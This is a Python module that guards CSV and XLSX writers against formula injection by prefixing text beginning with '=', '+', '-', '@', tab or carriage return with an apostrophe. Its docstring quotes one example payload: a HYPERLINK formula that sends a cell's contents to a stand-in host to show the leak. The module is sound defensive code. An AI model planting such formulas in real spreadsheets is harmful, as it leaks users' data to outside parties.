"""Spreadsheet-safe cell values for every CSV and XLSX writer.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
read as a formula by Excel, LibreOffice and Google Sheets ("CSV injection"): a memo
``=HYPERLINK("http://evil.example/?d="&A1,"Click")`` becomes a live link that leaks
the sheet. Such a cell is written with a leading apostrophe, the convention the
spreadsheet programs themselves use for "text, not a formula"; the rest of the value
is kept verbatim. Numbers are written as numbers (a negative number is not text).
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    """``value`` ready for a spreadsheet cell: text that would run as a formula is
    prefixed with ``'``; numbers, booleans and None pass unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: dict[str, object]) -> dict[str, object]:
    """``safe_cell`` applied to every value of a CSV row."""
    return {k: safe_cell(v) for k, v in values.items()}
